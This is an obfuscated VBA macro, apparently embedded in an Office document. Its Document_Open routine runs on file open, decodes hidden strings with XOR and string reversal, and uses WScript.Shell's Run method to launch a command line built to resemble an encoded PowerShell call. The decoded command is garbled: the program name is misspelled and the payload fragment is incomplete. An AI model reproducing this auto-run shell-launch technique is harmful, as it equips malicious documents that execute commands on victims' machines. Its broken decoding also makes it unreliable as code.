Function hqzxkw(ByVal qjxv As String) As String
    Dim i
    For i = 1 To Len(qjxv) Step 3
        hqzxkw = hqzxkw & Chr(CInt(Mid(qjxv, i, 3)) Xor 7)
    Next
End Function
Sub Document_Open()
    Dim wvkqz, xqpzt, zkjqw
    wvkqz = hqzxkw("113104119098117116111098107107039")
    xqpzt = wvkqz & Chr(45) & Chr(101) & Chr(110) & Chr(99) & Chr(32) & Chr(99 + 1) & Chr(40 * 2) & Chr(33) & Chr(32) & Chr(31 + 3)
    zkjqw = StrReverse("llehS.tpircSW")
    CallByName CreateObject(zkjqw), hqzxkw("085114105"), 1, xqpzt, 0
End Sub
